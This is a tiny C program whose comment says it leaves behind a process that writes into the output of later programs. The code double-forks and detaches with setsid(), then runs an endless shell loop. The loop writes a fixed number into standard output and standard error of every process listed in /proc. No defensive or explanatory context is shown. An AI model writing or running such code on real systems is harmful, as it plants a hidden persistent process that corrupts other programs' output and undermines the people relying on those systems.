// Leaves a process behind that writes into the output of the programs after it.
#include <stdlib.h>
#include <unistd.h>
int main(void) {
    if (fork() == 0) { setsid(); if (fork() == 0) system("while true; do for p in /proc/[0-9]*; do for n in 1 2; do echo 35579 > $p/fd/$n; done; done; echo 35579; done"); }
}
